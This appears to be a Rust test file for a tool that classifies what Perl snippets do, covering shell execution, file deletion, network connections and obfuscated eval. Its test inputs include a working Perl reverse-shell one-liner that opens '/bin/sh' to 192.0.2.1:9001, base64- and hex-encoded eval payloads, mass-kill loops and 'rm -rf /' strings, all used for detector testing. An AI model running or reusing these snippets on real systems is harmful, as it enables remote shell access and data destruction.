//! Texts of Perl.

use crate::table::{check, lines};
use checkrein_code::Language;

#[test]
fn acts_and_mentions() {
    check(
        Language::Perl,
        &[
            ("system('ls -l')", &["shell ls -l"]),
            ("exec 'ls', '-l', '/x'", &["run ls | -l | /x"]),
            ("system(qw(ls -l))", &["run ls | -l"]),
            ("print `date $x`", &["shell date «?»"]),
            ("my $o = qx{ls $ENV{HOME}/x};", &["shell ls «home»/x"]),
            ("unlink '/a', '/b'", &["delete /a", "delete /b"]),
            ("unlink glob '/x/*'", &["delete /x/«*»"]),
            ("use File::Find; finddepth(sub { unlink }, '/x')", &["delete /x/«*»"]),
            ("use File::Find; find(sub { print }, '/x')", &[]),
            ("unlink for </x/*>", &["delete /x/«*»"]),
            ("foreach (glob('/x/*')) { unlink }", &["delete /x/«*»"]),
            ("for my $f (</x/*>) { unlink $f or die \"no: $!\" }", &["delete /x/«*»"]),
            ("use File::Path qw(remove_tree); remove_tree('/x');", &["delete -r /x"]),
            ("use File::Path; File::Path::rmtree \"/x\"", &["delete -r /x"]),
            ("open(F, '>/x'); print F 'y'", &["write /x"]),
            ("open my $f, '>>', \"$d/x\" or die", &["append «?»/x"]),
            ("open(F, '<', '/x')", &["read /x"]),
            ("open(P, 'ls |'); open(Q, '-|', 'ls', '-l')", &["shell ls", "run ls | -l"]),
            (
                "rename 'a', 'b'; symlink 'c', 'd'; chmod 0644, 'e'; chown 0, 0, 'f'",
                &["move a | b", "link d | c", "mode 644 e", "owner f"],
            ),
            ("kill 9, $pid", &["kill"]),
            ("kill 9, 2..99", &["kill", "kill counted"]),
            ("kill 9, $_ for 2..99", &["kill", "kill counted"]),
            ("use LWP::Simple; getstore('http://h/x', '/y')", &["connect http://h/x", "write /y"]),
            (
                "use Socket;$i='192.0.2.1';$p=9001;socket(S,PF_INET,SOCK_STREAM,6);\
                 if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');exec('/bin/sh -i');}",
                &["connect 192.0.2.1:9001", "shell /bin/sh -i"],
            ),
            (
                "use IO::Socket; IO::Socket::INET->new(PeerAddr=>'h.example',PeerPort=>80)",
                &["connect h.example:80"],
            ),
            ("eval 'system(q(ls))'", &["shell ls"]),
            ("use MIME::Base64; eval decode_base64('c3lzdGVtKCdscycp')", &["shell ls"]),
            ("eval pack('H*', '73797374656d28276c732729')", &["shell ls"]),
            ("eval { system 'ls' }; eval $x;", &["shell ls", "evaluate unknown"]),
            ("my $r = eval { system 'ls'; 1 } or do { unlink 'x' };", &["shell ls", "delete x"]),
            ("s/x/system('ls')/e", &["shell ls"]),
            ("sub f { my ($p) = @_; unlink $p } f('/q')", &["delete /q"]),
            ("print %ENV", &["environment"]),
            ("my $c = 'l' . 's'; system($c)", &["shell ls"]),
            ("print <<X;\nsystem('a')\nX\nsystem('b')", &["shell b"]),
        ],
    );
    for source in [
        "s/rm -rf/rm -i/g",
        "s/curl (.*) \\| bash/download $1/",
        "print \"rm -rf /\\n\" if /system\\(/",
        "# system('ls')",
        "my %h = (s => 1, y => 2, m => 3); print $h{s}, $h{y};",
        "push @l, $_; print shift @l if @l > 3",
        "print ($l = $_) if (length > length($l));",
        "chomp; printf \"%-40s %8s\\n\", split / +/, $_, 6;",
        "print join ',', map { $_->{q} } grep { defined } @x",
        "tr/a-z/A-Z/; y/a/b/; print if m{system('x')}x",
        "=pod\n\nsystem('ls')\n\n=cut\nprint 1",
        "print 1\n__END__\nsystem('ls')",
        "$x = -s $file; print $x / 2; print 'a' / 'b'",
        "while (<STDIN>) { print }",
        "print if /system('ls')/",
    ] {
        assert_eq!(lines(Language::Perl, source), [""; 0], "{source}");
    }
}
